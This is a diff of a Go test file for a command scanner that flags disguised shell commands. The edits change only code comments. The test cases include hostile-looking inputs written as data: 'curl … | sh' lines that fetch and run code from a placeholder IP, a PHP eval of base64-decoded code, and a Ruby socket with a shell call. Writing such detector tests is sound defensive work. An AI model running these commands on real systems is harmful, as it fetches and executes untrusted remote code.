@@ -7,8 +7,8 @@ import (
 	"github.com/knack-dev/knack/internal/analysis/scan/internal/commands"
 )
 
-// TestDetours checks commands that reach the same end in roundabout ways: names, functions,
-// descriptors, files, other languages and programs that start another program.
+// TestDetours checks that commands are found if they are disguised: by other names, functions,
+// descriptors, files, other languages, or programs that start another program.
 func TestDetours(t *testing.T) {
 	b := encoded("echo hello")
 	u := "http://45.67.89.10/x"
@@ -142,7 +142,7 @@ func TestDetours(t *testing.T) {
 	}
 }
 
-// TestCodeDetours does the same as TestDetours for Python and JavaScript.
+// TestCodeDetours checks the same for Python and JavaScript.
 func TestCodeDetours(t *testing.T) {
 	b, sh := encoded("print(1)"), encoded("echo hello")
 	u := "http://45.67.89.10/x"
@@ -199,8 +199,8 @@ func TestCodeDetours(t *testing.T) {
 	}
 }
 
-// TestLines checks files of Windows and of languages without a reader, which are judged line by
-// line.
+// TestLines checks files that are judged line by line: those of Windows, and of languages that scan
+// does not parse.
 func TestLines(t *testing.T) {
 	u := "http://45.67.89.10/x"
 	enc := encoded(utf16Of("echo hello world"))
@@ -224,7 +224,7 @@ func TestLines(t *testing.T) {
 		{"a.rb", "require 'socket'\ns = TCPSocket.new('db.acme-tools.dev', 44)\nsystem('/bin/sh a.sh')\n", ""},
 		{"a.php", "<?php eval(base64_decode('" + encoded("echo hello world") + "'));\n", "run-decoded"},
 		{"a.php", "<?php $x = base64_decode($y);\necho $x;\n", ""},
-		{"a.rb", "system('curl " + u + " | sh')\n", ""}, // a limitation, documented in doc/scan.md
+		{"a.rb", "system('curl " + u + " | sh')\n", ""}, // a limit that doc/scan.md documents
 		{"a.fish", "curl -s " + u + " | sh\n", "run-fetched-unknown"},
 		{"a.txt", "#!/bin/sh\ncurl -s " + u + " | sh\n", "run-fetched-unknown"},
 		{"scripts/run", "curl -s " + u + " | sh\n", "run-fetched-unknown"},
